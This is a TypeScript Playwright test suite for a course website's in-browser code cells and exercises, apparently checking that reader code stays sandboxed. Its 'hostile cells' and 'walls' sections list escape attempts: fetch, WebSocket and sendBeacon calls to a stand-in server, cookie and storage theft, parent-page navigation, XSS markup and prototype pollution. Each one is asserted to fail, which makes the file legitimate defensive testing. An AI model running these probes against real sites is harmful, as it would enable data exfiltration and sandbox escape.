/** A reader's code in the built site: cells and exercises run, and whatever they try, nothing comes in or out but their outputs. */
import { existsSync, readFileSync } from "node:fs";
import { createServer, type IncomingMessage, type RequestListener, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { AxeBuilder } from "@axe-core/playwright";
import * as engine from "lrlab/engine";
import type { Browser, BrowserContextOptions, Locator, Page } from "playwright";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { type Lesson, lessons } from "../../src/lessons/catalog.js";
import { pageAddress } from "../../src/lessons/section.js";
import { launchChromium, requirePart, root } from "../realParts.js";
import { builtSite, serve } from "./serve.js";

const frame = "/sandbox/frame.html";
/** What was asked of the site and of a foreign server since the test began. */
let asked: string[] = [];
/** Stands in for the Worker's text, to test the walls without our own runtime behind them. */
let rawWorker: string | undefined;

/** Answers everyone, and lets every origin read the answer. */
const stranger = createServer((request, response) => {
  asked.push(`stranger ${request.url}`);
  response
    .writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" })
    .end('postMessage({ type: "text", text: "REACHED" });');
});

let site: Server | undefined;
let here = "";
let abroad = "";
let browser: Browser;
const pages: Page[] = [];

const isThere = requirePart("chromium", "cells and exercises in the page, and the sandbox's walls");

beforeAll(async () => {
  if (!isThere) return;
  const served = await serve();
  site = served.server;
  here = served.url;
  const [plainly] = site.listeners("request") as RequestListener[];
  site.removeAllListeners("request").on("request", (request: IncomingMessage, response: ServerResponse) => {
    asked.push(`site ${request.url}`);
    if (rawWorker === undefined || request.url !== frame) return plainly?.(request, response);
    const page = readFileSync(join(builtSite(), frame), "utf8");
    const raw = page.replace(/(id="worker">)[\s\S]*?(?=<\/script>)/, (_, before: string) => before + rawWorker);
    response.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(raw);
  });
  await new Promise<void>((resolve) => stranger.listen(0, "127.0.0.1", resolve));
  abroad = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  site?.close();
  stranger.close();
});
afterEach(async () => {
  rawWorker = undefined;
  await Promise.all(pages.splice(0).map((page) => page.context().close()));
});

const lesson = "01-three-fates";

/** Where a lesson's page is. */
const addressOf = ({ folder }: Lesson): string => pageAddress(folder);

interface Visit {
  readonly options?: BrowserContextOptions;
  /** Code that the reader wrote earlier, by "lesson/id". */
  readonly kept?: Readonly<Record<string, string>>;
  readonly address?: string;
}

/** Opens a lesson; complaints of the page (errors, violations of its policy) are collected. */
async function visit({
  options = {},
  kept = {},
  address = `/lessons/${lesson}/`,
}: Visit = {}): Promise<{ page: Page; complaints: string[] }> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, ...options });
  const page = await context.newPage();
  pages.push(page);
  const complaints: string[] = [];
  page.on("pageerror", (error) => complaints.push(error.message));
  page.on("console", (message) => {
    if (message.type() === "error") complaints.push(message.text());
  });
  await context.addInitScript((entries) => {
    if (location.pathname.startsWith("/sandbox/")) return;
    for (const [id, code] of entries) localStorage.setItem(`lrlab/code/${id}`, JSON.stringify(code));
  }, Object.entries(kept));
  asked = [];
  await page.goto(here + address);
  return { page, complaints };
}

const statusOf = (host: Locator): Locator => host.locator("[role=status]");

/** Clicks, and waits for the words that end the run. */
async function press(host: Locator, button: string, told: RegExp): Promise<string> {
  const status = statusOf(host);
  await status.evaluate((line) => {
    line.textContent = "";
  });
  await host.locator(`[data-do=${button}]`).click();
  await expect.poll(() => status.textContent(), { timeout: 30_000, interval: 50 }).toMatch(told);
  return (await status.textContent()) ?? "";
}

const ended = /^(Ran in|Stopped|Not run|The sandbox)/;

/** Runs code in place of the lesson's first cell and gives what it shows. */
async function shown(code: string, told = ended): Promise<{ page: Page; text: string; status: string }> {
  const { page } = await visit({ kept: { [`${lesson}/setup`]: code } });
  const cell = page.locator("lr-cell#setup");
  const status = await press(cell, "run", told);
  const outputs = cell.locator("[data-outputs]");
  return { page, status, text: (await outputs.count()) === 0 ? "" : await outputs.innerText() };
}

describe.skipIf(!isThere)("cells", () => {
  test("run from the top and show again what the notebook showed", async () => {
    const { page, complaints } = await visit();
    const cell = page.locator("lr-cell#fates");
    const before = await cell.locator("[data-outputs]").innerText();
    await press(cell, "run", /^Ran in [\d.]+ s, with the \d cells above\.$/);
    expect(await cell.locator("[data-outputs]").innerText()).toBe(before);
    expect(complaints).toEqual([]);
  });

  test.each(lessons.map(addressOf))("%s: every cell shows again what the notebook showed", async (address) => {
    const { page, complaints } = await visit({ address });
    const cells = await page.locator("lr-cell").all();
    const texts = () =>
      page
        .locator("lr-cell [data-outputs]")
        .evaluateAll((all) => all.map((each) => each.textContent?.replaceAll(/\s+/g, " ").replace(/^line \d+: /, "")).filter(Boolean));
    const before = await texts();
    // Changed and changed back, so that all of them are run and drawn again.
    await page
      .locator("lr-cell")
      .first()
      .evaluate((cell) => cell.setAttribute("data-stale", ""));
    await press(cells[cells.length - 1] as Locator, "run", ended);
    expect(await texts()).toEqual(before);
    expect(complaints).toEqual([]);
  });

  test("are edited by keyboard alone, rerun, kept, and reset", async () => {
    const { page, complaints } = await visit();
    const cell = page.locator("lr-cell#path");
    await cell.locator("[data-do=edit]").focus();
    await page.keyboard.press("Enter");
    const content = cell.locator(".cm-content");
    await content.waitFor();
    expect(await content.getAttribute("aria-label")).toContain("Escape, then Tab");
    await page.evaluate(() => {
      addEventListener("keydown", (event) => {
        if (event.key === "s") document.title = `${event.defaultPrevented}`;
      });
    });
    await page.keyboard.press("Control+s");
    expect(await page.title()).toBe("true");
    await page.keyboard.press("Control+End");
    await page.keyboard.type('\nconsole.log("mine", path.length);');
    expect(await cell.getAttribute("data-stale")).toBe("");
    await page.keyboard.press("Control+Enter");
    await expect.poll(() => statusOf(cell).textContent()).toMatch(/^Ran in/);
    expect(await cell.locator("[data-outputs]").innerText()).toContain("mine 6");
    // Tab indents until Escape lets it go.
    await page.keyboard.press("Tab");
    expect(await page.evaluate(() => document.activeElement?.className)).toBe("editor");
    await page.keyboard.press("Escape");
    await page.keyboard.press("Tab");
    expect(await page.evaluate(() => document.activeElement?.getAttribute("data-do"))).toBe("run");

    await page.reload();
    expect(await cell.locator("code").innerText()).toContain('console.log("mine"');
    await cell.locator("[data-do=reset]").click();
    await expect.poll(() => cell.locator("code").innerText()).not.toContain("mine");
    expect(await page.evaluate(() => localStorage.getItem("lrlab/code/01-three-fates/path"))).toBeNull();
    expect(complaints).toEqual([]);
  });

  test("draw figures in the page, with their sentence", async () => {
    const { page } = await shown('import { plot, show } from "lrlab/notebook";\nshow(plot("01-three-fates/descent", { eta: 0.6 }));');
    const figure = page.locator("lr-cell#setup figure");
    expect(await figure.locator("svg[role=img]").count()).toBe(1);
    expect(await figure.innerText()).toMatch(/η\s=\s0\.6/);
  });

  test("replay what real libraries do", async () => {
    const { text } = await shown(
      'import { replay } from "lrlab/compat";\nreplay({ api: "NoSuchLR", params: {}, base_lr: 0.1, steps: 4 });',
    );
    expect(text).toContain('line 2: RangeError: replay: api must be one that it knows, got "NoSuchLR".');
  });

  test("train a net, with the same bits as here", async () => {
    const code = [
      "const net = engine.mlp([1, 8, 2], { act: 'tanh', seed: 1 });",
      "const opt = engine.sgd(net, { momentum: 0.9 });",
      "const train = () => {",
      "  const loss = engine.crossEntropy(net(engine.tensor([[1], [-1]])), [0, 1]);",
      "  loss.backward();",
      "  opt.step(0.1);",
      "  return loss.item();",
      "};",
      "const losses = Array.from({ length: 50 }, train);",
    ].join("\n");
    const here = new Function("engine", `${code}\nreturn losses[49];`)(engine);
    const { text } = await shown(`import * as engine from "lrlab/engine";\n${code}\nconsole.log(losses[49]);`);
    expect(text).toContain(String(here));
  });

  test("say on which line they failed, and lead there", async () => {
    const { page, text, status } = await shown(
      "const a: number = 1;\n\nfunction f(): never {\n  throw new RangeError('too far');\n}\nf();",
    );
    expect(text).toContain("line 4: RangeError: too far");
    expect(status).toBe("Stopped with an error.");
    await page.locator("#setup .output button").click();
    await page.locator("#setup .cm-wrong").waitFor();
    expect(await page.locator("#setup .cm-wrong").innerText()).toContain("throw new RangeError");
  });

  test.each([
    ["a name that is declared twice", "const a = 1;\n\nlet a = 2;", "line 3: SyntaxError: Identifier 'a' has already been declared"],
    ["a bracket that is missing", "const a = (1;", "line 1: SyntaxError: Unexpected token"],
    ["a name that is not there", 'import { cosin } from "lrlab";', 'line 1: RangeError: import: "lrlab" has no cosin.'],
    ["another package", 'import { x } from "lodash";', 'line 1: import from "lodash" is not available here.'],
    ["a promise nobody waits for", 'void Promise.reject(new TypeError("late"));', "TypeError: late"],
    ["something that is no error", "throw { code: 3 };", "thrown: { code: 3 }"],
  ])("tell of %s", async (_, code, words) => {
    expect((await shown(code)).text).toContain(words);
  });

  test("whose earlier cell fails say so, and link to it", async () => {
    const { page } = await visit({ kept: { [`${lesson}/setup`]: "null.x" } });
    const cell = page.locator("lr-cell#path");
    await press(cell, "run", /^Stopped with an error/);
    expect(await cell.locator("[data-outputs]").innerText()).toBe("A cell above stopped with an error, so this one did not run. Go there");
    expect(await page.locator("lr-cell#setup [data-outputs]").innerText()).toContain("line 1: TypeError");
  });

  test("that never end are stopped at the limit, and the page answers all the while", async () => {
    const { page } = await visit({ kept: { [`${lesson}/setup`]: 'console.log("before");\nwhile (true) {}' } });
    await page.evaluate(() => {
      const watched = window as unknown as { widest: number };
      watched.widest = 0;
      let last = performance.now();
      setInterval(() => {
        const now = performance.now();
        watched.widest = Math.max(watched.widest, now - last);
        last = now;
      }, 20);
    });
    const cell = page.locator("lr-cell#setup");
    const began = performance.now();
    expect(await press(cell, "run", /^Stopped/)).toBe("Stopped at the time limit.");
    const seconds = (performance.now() - began) / 1000;
    expect(seconds).toBeGreaterThan(9.5);
    expect(seconds).toBeLessThan(20);
    expect(await cell.locator("[data-outputs]").innerText()).toMatch(/^before\s+Stopped after 10 seconds\. Does a loop never end\?/);
    const widest = await page.evaluate(() => (window as unknown as { widest: number }).widest);
    console.log(`a runaway loop: the page was never silent for more than ${Math.round(widest)} ms`);
    expect(widest).toBeLessThan(1000);
  });

  test("are stopped by the reader, and the next run starts afresh", async () => {
    const { page } = await visit({ kept: { [`${lesson}/setup`]: "while (true) {}" } });
    const cell = page.locator("lr-cell#setup");
    await cell.locator("[data-do=run]").click();
    await press(cell, "stop", /^Stopped\.$/);
    await press(page.locator("lr-cell#setup"), "reset", /course's code/);
    await press(cell, "run", /^Ran in/);
  });

  test("that print without end are cut, and say so", async () => {
    const { page, text } = await shown('for (let i = 0; i < 1e6; i++) console.log("line", i, "x".repeat(50));');
    expect(text).toContain("The rest is left out");
    expect(text.length).toBeLessThan(60_000);
    expect(await page.locator("#setup .output").count()).toBe(1);
  });

  test("keep working where the browser keeps nothing, which is said", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    pages.push(page);
    await context.addInitScript(() => {
      Object.defineProperty(window, "localStorage", {
        get() {
          throw new DOMException("blocked", "SecurityError");
        },
      });
    });
    await page.goto(`${here}/lessons/${lesson}/`);
    const cell = page.locator("lr-cell#setup");
    await cell.locator("[data-do=edit]").click();
    await cell.locator(".cm-content").waitFor();
    await page.keyboard.press("Control+End");
    await page.keyboard.type("\n6 * 7");
    await press(cell, "run", /^Ran in/);
    expect(await cell.locator("[data-outputs]").innerText()).toBe("42");
    await expect.poll(() => page.locator(".notice").textContent()).toContain("This browser keeps nothing");
  });
});

/** Each tries to get out, and prints REACHED if it does. `@` is a foreign server, `~` the site itself. */
const hostile: readonly (readonly [string, string])[] = [
  ["fetch", 'await fetch("@/fetch"); console.log("REACHED");'],
  ["fetch of the site", 'await fetch("~/fetch"); console.log("REACHED");'],
  ["XMLHttpRequest", 'const x = new XMLHttpRequest(); x.open("GET", "@/xhr", false); x.send(); console.log("REACHED");'],
  [
    "WebSocket",
    'const w = new WebSocket("ws" + "@/socket".slice(4)); await new Promise((r, j) => { w.onopen = r; w.onerror = j; }); console.log("REACHED");',
  ],
  [
    "EventSource",
    'const e = new EventSource("@/events"); await new Promise((r, j) => { e.onopen = r; e.onerror = j; }); console.log("REACHED");',
  ],
  ["WebTransport", 'const t = new WebTransport("https" + "@/".slice(4)); await t.ready; console.log("REACHED");'],
  ["importScripts", 'importScripts("@/script.js"); console.log("REACHED");'],
  ["importScripts of the site", 'importScripts("~/sandbox/frame.html?secret"); console.log("REACHED");'],
  ["import() in an eval", 'await (0, eval)(\'import("@/module.js")\'); console.log("REACHED");'],
  ["import() of data", 'await (0, eval)(\'import("data:text/javascript,export default 1")\'); console.log("REACHED");'],
  ["sendBeacon", 'navigator.sendBeacon("@/beacon", "secret"); console.log("REACHED");'],
  ["localStorage", 'localStorage.setItem("stolen", "1"); console.log("REACHED");'],
  ["cookies", 'document.cookie = "stolen=1"; console.log("REACHED");'],
  ["indexedDB", 'await new Promise((r, j) => { const q = indexedDB.open("x"); q.onsuccess = r; q.onerror = j; }); console.log("REACHED");'],
  ["the cache", 'await caches.open("x"); console.log("REACHED");'],
  ["the file system", 'await navigator.storage.getDirectory(); console.log("REACHED");'],
  ["the page above", 'parent.document.title = "stolen"; console.log("REACHED");'],
  ["the page above, through self", 'self.top.location = "@/top"; console.log("REACHED");'],
  ["a window", 'open("@/window"); console.log("REACHED");'],
  ["navigation", 'location.href = "@/location"; if (location.href.startsWith("@")) console.log("REACHED");'],
  ["a channel to the page", 'new BroadcastChannel("lrlab").postMessage("x"); console.log("REACHED");'],
  ["forged messages", 'for (const nonce of [0, 1, "0", ""]) postMessage({ nonce, type: "text", text: "REACHED" }); '],
  [
    "forged messages, through the prototype",
    'DedicatedWorkerGlobalScope.prototype.postMessage.call(self, { type: "text", text: "REACHED" });',
  ],
  ["a Worker of its own", 'new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); console.log("REACHED");'],
  ["the clock of the page", "while (true) setTimeout(() => {}, 0);"],
];

/** Nothing of the page changed, nothing was asked of anyone but what the page itself needs. */
async function expectUntouched(page: Page, label: string): Promise<void> {
  // The page loads files of the site; the hostile code asks for what is not there, or with a query.
  const own = (line: string): boolean => line.startsWith("site ") && existsSync(join(builtSite(), line.slice("site ".length)));
  const beyond = asked.filter((line) => !own(line));
  expect(beyond, label).toEqual([]);
  expect(page.context().pages(), label).toHaveLength(1);
  expect(page.url(), label).toBe(`${here}/lessons/${lesson}/`);
  expect(await page.title(), label).toMatch(/^One step, three fates/);
  const state = await page.evaluate(() => [localStorage.getItem("stolen"), document.cookie, ({} as { polluted?: unknown }).polluted ?? ""]);
  expect(state, label).toEqual([null, "", ""]);
}

describe.skipIf(!isThere)("hostile cells", () => {
  test("reach nothing", async () => {
    const { page } = await visit();
    const cell = page.locator("lr-cell#setup");
    await cell.locator("[data-do=edit]").click();
    await cell.locator(".cm-content").waitFor();
    for (const [name, code] of hostile) {
      await cell.locator(".cm-content").focus();
      await page.keyboard.press("Control+a");
      await page.keyboard.insertText(code.replaceAll("@", abroad).replaceAll("~", here));
      await press(cell, "run", ended);
      const text = await cell.locator("[data-outputs]").innerText();
      expect(text, name).not.toContain("REACHED");
      await expectUntouched(page, name);
    }
  });

  test("that send figures with traps in them draw nothing", async () => {
    const figures = [
      '{ kind: "curves", __proto__: { polluted: 1 } }',
      '{ kind: "html", data: "<img src=x onerror=document.title=1>" }',
      'JSON.parse(\'{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}\')',
      '{ toJSON: () => ({ kind: "curves", sentence: "x", size: { width: 1e9, height: 1 }, data: {} }) }',
      "{ toJSON: () => undefined }",
    ];
    // Past `show`, which checks what it is given: straight to the page.
    const { page, text } = await shown(
      `const host = (globalThis as any)[Symbol.for("lrlab.host")];\nfor (const figure of [${figures}]) host.display([figure]);`,
    );
    expect(text.match(/This is nothing that the page can draw/g)).toHaveLength(figures.length);
    expect(await page.locator("lr-cell#setup figure").count()).toBe(0);
    await expectUntouched(page, "figures");
  });

  test("that print markup print text", async () => {
    const { page, text } = await shown(
      'console.log("<img src=x onerror=document.title=1><b>bold</b>");\nthrow new Error("<script>document.title=1</script>");',
    );
    expect(text).toContain("<b>bold</b>");
    expect(text).toContain("<script>");
    await expectUntouched(page, "markup");
  });

  test.each([
    ["a text of a gigabyte", '"x".repeat(2 ** 29 - 30) + "y"'],
    ["an object without end", "const deep: any = {}; let at = deep; for (let i = 0; i < 1e5; i++) at = at.next = {};\ndeep"],
    ["a list of ten million", "Array.from({ length: 1e7 }, (_, i) => i)"],
    ["a getter that throws", "({ get a() { throw new Error('no'); } })"],
    ["a proxy that throws", "new Proxy({}, { ownKeys() { throw new Error('trap'); } })"],
    [
      "a hundred thousand errors",
      "for (let i = 0; i < 1e5; i++) setTimeout(() => { throw new Error('x'); });\nawait new Promise((r) => setTimeout(r, 500));",
    ],
  ])("that show %s leave the page well", async (name, code) => {
    const { page, text } = await shown(code);
    expect(text.length).toBeLessThan(200_000);
    await expectUntouched(page, name);
  });

  test("that take all memory are stopped, and the page lives", async () => {
    const { page, status } = await shown("const all: unknown[] = [];\nwhile (true) all.push(new Float64Array(1e6).fill(1));");
    expect(status).toMatch(/^(Stopped|The sandbox)/);
    await expectUntouched(page, "memory");
    await press(page.locator("lr-cell#setup"), "reset", /course's code/);
    await press(page.locator("lr-cell#setup"), "run", /^Ran in/);
  });
});

/** The same doors with no runtime of ours in the way: what holds here is the frame's opaque origin and its policy. */
const walls = (): string => `
const tries = {
  fetch: () => fetch("${abroad}/fetch"),
  here: () => fetch("${here}/fetch"),
  nocors: () => fetch("${abroad}/nocors", { mode: "no-cors" }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", "${abroad}/xhr", false); x.send(); },
  socket: () => new Promise((r, j) => { const w = new WebSocket("${abroad.replace("http", "ws")}/socket"); w.onopen = r; w.onerror = j; }),
  events: () => new Promise((r, j) => { const e = new EventSource("${abroad}/events"); e.onopen = r; e.onerror = j; }),
  script: () => importScripts("${abroad}/script.js"),
  own: () => importScripts("${here}/_astro/x.js"),
  module: () => import("${abroad}/module.js"),
  data: () => import("data:text/javascript,1"),
  worker: () => new Promise((r, j) => { const w = new Worker("${here}/_astro/x.js"); w.onmessage = r; w.onerror = j; }),
  indexedDB: () => new Promise((r, j) => { const q = indexedDB.open("x"); q.onsuccess = r; q.onerror = j; }),
  caches: () => caches.open("x"),
  files: () => navigator.storage.getDirectory(),
  locks: () => navigator.locks.request("x", () => {}),
};
onmessage = async () => {
  postMessage({ type: "start" });
  for (const [name, attempt] of Object.entries(tries)) {
    let text = "shut " + name;
    try { await attempt(); text = "REACHED " + name; } catch {}
    postMessage({ type: "text", text });
  }
  postMessage({ type: "text", text: "origin " + self.origin });
  postMessage({ type: "done" });
};`;

describe.skipIf(!isThere)("the frame, without our runtime", () => {
  /** Runs a Worker's text instead of ours. */
  async function raw(text: string): Promise<{ page: Page; text: string; status: string }> {
    rawWorker = text;
    return await shown("1");
  }

  test("lets nothing in or out", async () => {
    const { page, text } = await raw(walls());
    expect(text.split("\n")).toHaveLength(16);
    expect(text).not.toContain("REACHED");
    expect(text).toContain("origin null");
    await expectUntouched(page, "walls");
  });

  test("stops a Worker that floods it, and the page answers", async () => {
    const { page, status } = await raw(
      'onmessage = () => { postMessage({ type: "start" }); for (;;) postMessage({ type: "text", text: "x".repeat(1000) }); };',
    );
    expect(status).toBe("Stopped: it sent more output than the page takes.");
    await expectUntouched(page, "flood");
  });

  test("stops a Worker that redraws without end, and the page answers", async () => {
    const { page, status } = await raw(
      'onmessage = () => { postMessage({ type: "start" }); for (;;) postMessage({ type: "shown", number: 0, json: "[]" }); };',
    );
    expect(status).toBe("Stopped: it sent more output than the page takes.");
    await expectUntouched(page, "redraws");
  });

  test.each([
    ["a message that is none", "postMessage(5)"],
    ["an unknown type", 'postMessage({ type: "html", html: "<b>" })'],
    ["a getter's worth", 'postMessage({ type: "text", text: { toString: 1 } })'],
    ["pollution", 'postMessage(JSON.parse(\'{"type": "text", "__proto__": {"polluted": 1}}\'))'],
    ["a text that is too long", 'postMessage({ type: "text", text: "x".repeat(1e5) })'],
    ["contents in a place that is none", 'postMessage({ type: "shown", number: 1e5, json: "[]" })'],
  ])("ends a run that sends %s", async (_, send) => {
    const { page, status } = await raw(`onmessage = () => { postMessage({ type: "start" }); ${send}; };`);
    expect(status).toBe("The sandbox did not answer. Reload the page to try again.");
    await expectUntouched(page, "messages");
  });

  test("does nothing when it is opened by itself or framed without the sandbox", async () => {
    const { page } = await visit();
    const told = await page.evaluate(async () => {
      const frame = document.createElement("iframe");
      frame.src = "/sandbox/frame.html";
      await new Promise((resolve) => {
        frame.onload = resolve;
        document.body.append(frame);
      });
      const { port1, port2 } = new MessageChannel();
      const answers: unknown[] = [];
      port1.onmessage = ({ data }) => answers.push(data);
      frame.contentWindow?.postMessage({ job: { parts: [] } }, "*", [port2]);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return answers;
    });
    expect(told).toEqual([]);
  });
});

describe.skipIf(!isThere)("exercises", () => {
  const exercises = lessons.flatMap((each) =>
    Object.keys(each.exercises).map((id) => ({ address: addressOf(each), folder: each.folder, id })),
  );
  const codeOf = (folder: string, id: string, name: string): string =>
    readFileSync(join(root, "src/lessons", folder, "exercises", id, `${name}.ts`), "utf8");
  const checked = /points/;

  test.each(exercises)("$folder/$id: the start fails, the solution passes", async ({ address, folder, id }) => {
    const { page, complaints } = await visit({ address });
    const exercise = page.locator(`lr-exercise#${id}`);
    expect(await press(exercise, "check", checked)).toMatch(/^✗ Not yet: /);
    expect(await exercise.locator("[data-state=wrong] .verdict").first().innerText()).toBe("✗ not yet");
    expect(await exercise.locator("summary").innerText()).toBe("Show a solution");
    await exercise.locator("[data-do=edit]").click();
    await exercise.locator(".cm-content").waitFor();
    await page.keyboard.press("Control+a");
    await page.keyboard.insertText(codeOf(folder, id, "solution"));
    expect(await press(exercise, "check", /points/)).toMatch(/^✓ All right: /);
    expect(await exercise.locator("[data-state]:not([data-state=right])").count()).toBe(0);
    expect(complaints).toEqual([]);
    await page.reload();
    await expect.poll(() => statusOf(exercise).textContent()).toBe("✓ You have solved this one.");
  });

  test.each([
    ["NaN", "return NaN as any;", /got NaN|NaN/],
    ["a number", "return 3 as any;", /got 3/],
    ["a boxed text", 'return new String("monotone") as any;', /String/],
    ["nothing", "return undefined as any;", /undefined|nothing/],
    ["a Promise", 'return Promise.resolve("monotone") as any;', /Promise/],
    ["a function", "return (() => 1) as any;", /function/],
    ["itself", "const a: any = {}; a.a = a; return a;", /contains itself/],
    ["an error", 'throw new TypeError("oops");', /threw TypeError: oops/],
    ["an endless loop", "while (true) {}", /ran longer than 3 seconds\. Does a loop never end\?/],
    ["a huge text", 'return "x".repeat(1e7) as any;', /answers are too long/],
    ["a flood", "for (;;) console.log(eta);", /ran longer than 3 seconds/],
  ])("an answer that gives %s gets a verdict that can be read", async (_, body, words) => {
    const { page } = await visit({ kept: { [`${lesson}/fate`]: `function fate(eta: number, h: number): string {\n  ${body}\n}` } });
    const exercise = page.locator("lr-exercise#fate");
    expect(await press(exercise, "check", checked)).toMatch(/^✗ Not yet: 0 of 10 points/);
    expect(await exercise.locator("[data-results]").innerText()).toMatch(words);
  });

  test.each([
    ["no function of that name", "const other = 1;", /fate must be a function/],
    ["code that can't be read", "function fate( {", /line 1: SyntaxError/],
    ["code that stops before it is called", "null.x;", /line 1: TypeError/],
    ["an import from elsewhere", 'import { x } from "fs";', /not available here/],
  ])("%s is told", async (_, code, words) => {
    const { page } = await visit({ kept: { [`${lesson}/fate`]: code } });
    const exercise = page.locator("lr-exercise#fate");
    await press(exercise, "check", /points|Not checked/);
    expect(await exercise.locator("[data-results]").innerText()).toMatch(words);
  });

  test("an answer that remembers earlier tests is given a fresh start for each", async () => {
    const code = "let calls = 0;\nfunction fate(eta: number, h: number): any {\n  calls++;\n  return calls;\n}";
    const { page } = await visit({ kept: { [`${lesson}/fate`]: code } });
    const exercise = page.locator("lr-exercise#fate");
    await press(exercise, "check", checked);
    const firsts = await exercise.locator("[data-state=wrong] p:nth-child(2)").allInnerTexts();
    expect(firsts.filter((text) => text.includes("got 1"))).toHaveLength(6); // two tests are hidden
  });
});

describe.skipIf(!isThere)("cells and exercises", () => {
  for (const colorScheme of ["light", "dark"] as const) {
    for (const width of [1280, 390]) {
      test(`are accessible and fit at ${width} px in ${colorScheme}, in every state`, async () => {
        const { page } = await visit({ options: { colorScheme, viewport: { width, height: 844 } } });
        const [cell, exercise] = [page.locator("lr-cell#path"), page.locator("lr-exercise#fate")];
        await press(exercise, "check", /points/);
        await exercise.locator("summary").click();
        await cell.locator("[data-do=edit]").click();
        await cell.locator(".cm-content").waitFor();
        await page.keyboard.press("Control+End");
        await page.keyboard.type("\nnull.x");
        await press(cell, "run", ended);
        const faults = async (): Promise<unknown[]> => {
          const { violations } = await new AxeBuilder({ page }).include("lr-cell").include("lr-exercise").analyze();
          return violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)]);
        };
        expect(await faults()).toEqual([]);
        await cell.locator(".cm-content").focus();
        await page.keyboard.type("1");
        expect(await faults()).toEqual([]);
        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
      });
    }
  }

  test("read without scripts: code, outputs, statement and solution, and no dead button", async () => {
    const { page } = await visit({ options: { javaScriptEnabled: false } });
    expect(await page.locator("lr-cell#fates").innerText()).toMatch(/quadraticFate[\s\S]*oscillating/);
    expect(await page.locator("lr-cell button:visible, lr-exercise button:visible").count()).toBe(0);
    const exercise = page.locator("lr-exercise#fate");
    expect(await exercise.innerText()).toMatch(/Write fate[\s\S]*function fate[\s\S]*Checking needs scripts/);
    expect(await exercise.locator(".solution pre").isVisible()).toBe(false);
    await exercise.locator("summary").click();
    expect(await exercise.locator(".solution pre").innerText()).toContain("return");
  });
});
